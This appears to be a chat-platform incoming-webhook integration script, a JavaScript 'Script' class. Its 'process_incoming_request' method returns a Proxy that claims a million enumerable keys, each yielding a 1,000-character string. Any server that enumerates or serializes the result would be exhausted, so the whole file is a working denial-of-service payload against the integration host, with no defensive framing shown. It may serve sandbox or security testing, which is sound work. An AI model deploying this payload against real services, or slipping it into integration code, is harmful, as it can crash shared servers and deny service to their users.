class Script {
  process_incoming_request({ request }) {
    return new Proxy({}, { ownKeys() { return Array.from({ length: 1e6 }, (_, i) => "k" + i); }, getOwnPropertyDescriptor() { return { enumerable: true, configurable: true, value: 1 }; }, get() { return "x".repeat(1000); } });
  }
}
